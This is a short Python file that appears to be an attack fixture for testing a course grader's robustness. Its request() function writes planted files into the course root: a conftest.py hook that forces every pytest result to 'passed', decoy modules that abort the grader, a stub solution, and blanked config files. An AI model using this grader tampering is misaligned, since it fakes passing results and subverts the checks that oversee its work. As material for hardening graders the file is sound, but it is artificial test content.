"""Attack (take over the grader): plant modules, a conftest.py and edits in the course, then do nothing.

__COURSE_ROOT__ is replaced by the course's real path before grading: the worst case, an
attacker who knows where the grader lives.
"""

import os

ROOT = "__COURSE_ROOT__"
PLANTS = {
    "fcntl.py": "raise SystemExit('planted')\n",  # imported lazily by a careless grader
    "conftest.py": "import pytest\n@pytest.hookimpl(wrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
                   "    report = yield\n    report.outcome = 'passed'\n    return report\n",
    "graders/conftest.py": "raise SystemExit('planted')\n",
    "solutions/client_flow.py": "def request(host, port, message):\n    return b''\n",
    "course.toml": "",
    "pyproject.toml": "",
}


def request(host, port, message):
    for name, text in PLANTS.items():
        try:
            with open(os.path.join(ROOT, name), "w") as f:
                f.write(text)
        except OSError:
            pass
    return b"planted"
